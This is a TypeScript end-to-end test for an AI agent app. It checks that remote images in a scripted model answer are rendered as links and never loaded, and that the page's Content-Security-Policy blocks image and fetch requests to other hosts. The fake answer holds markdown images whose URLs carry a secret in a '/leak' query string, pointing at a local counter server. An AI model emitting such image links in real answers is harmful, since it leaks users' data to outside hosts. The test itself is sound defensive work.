// An answer that names a remote image loads nothing: the image shows as a
// link, and the page's Content-Security-Policy blocks any request to
// another host. A local HTTP server counts the requests that reach it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repoRoot, startApp, startFakeModel, type App, type FakeModel } from './harness';

const python = process.env.FREEACT_TEST_PYTHON ?? join(repoRoot, '.cache', 'python', 'venv', 'bin', 'python');

describe('a remote image in an answer', () => {
  let model: FakeModel;
  let app: App;
  let dir: string;
  let counter: Server;
  let hits: string[] = [];
  let base = '';
  let workspacePath = '';

  beforeAll(async () => {
    counter = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/png' });
      res.end();
    });
    await new Promise<void>((ok) => counter.listen(0, '127.0.0.1', ok));
    const addr = counter.address();
    if (!addr || typeof addr !== 'object') throw new Error('no port');
    // Another origin than the app's: the counter's own port.
    base = `http://127.0.0.1:${addr.port}`;
    dir = mkdtempSync(join(tmpdir(), 'freeact-e2e-remote-'));
    const workspace = join(dir, 'project');
    mkdirSync(join(workspace, '.freeact'), { recursive: true });
    mkdirSync(join(dir, 'home'));
    writeFileSync(join(workspace, '.freeact', 'agent.json'), JSON.stringify({ python, enable_subagents: false }));
    const scenario = {
      name: 'remote image',
      turns: [{ reply: [{ text: `Here: ![chart](${base}/leak?secret=s3cr3t) and ![two](//127.0.0.1:${addr.port}/leak2)` }] }],
    };
    writeFileSync(join(dir, 'scenario.json'), JSON.stringify(scenario));
    model = await startFakeModel(join(dir, 'scenario.json'));
    app = await startApp({ env: model.env, home: join(dir, 'home') });
    workspacePath = workspace;
  });
  afterAll(async () => {
    await app?.close();
    await model?.close();
    await new Promise((done) => counter?.close(done));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('opens a workspace under the policy', async () => {
    const { page } = app;
    await page.getByLabel('or type its path').fill(workspacePath);
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await expect
      .poll(() => page.getByTestId('kernel-status').textContent(), { timeout: 60_000, message: app.log() })
      .toContain('Kernel ready');
  });

  it('shows as a link and makes no request', async () => {
    const { page } = app;
    hits = [];
    const box = page.getByLabel('Message to the agent');
    await box.fill('Show the chart');
    await box.press('Enter');
    const link = page.locator('[data-testid=response] a.remote-image').first();
    await link.waitFor({ timeout: 30_000 });
    expect(await link.getAttribute('href')).toBe(`${base}/leak?secret=s3cr3t`);
    expect(await link.textContent()).toContain('image: chart (remote, not loaded)');
    expect(await page.locator('[data-testid=response] img').count()).toBe(0);
    // The policy itself: an image the page tries to load from another host
    // is refused (the error event comes, with a policy violation), and so
    // is a fetch. Both would reach the counter if allowed.
    const outcome = await page.evaluate(async (b) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const img = await new Promise<string>((done) => {
        const i = new Image();
        i.onload = () => done('loaded');
        i.onerror = () => done('blocked');
        i.src = `${b}/probe-image`;
        document.body.append(i);
      });
      const fetched = await fetch(`${b}/probe-fetch`).then(
        () => 'fetched',
        () => 'blocked',
      );
      // The violation events are queued as tasks: one more turn of the loop.
      await new Promise((r) => setTimeout(r, 0));
      return { img, fetched, violations };
    }, base);
    expect(outcome.img).toBe('blocked');
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.violations).toEqual(expect.arrayContaining(['img-src', 'connect-src']));
    expect(hits).toEqual([]);
  });
});
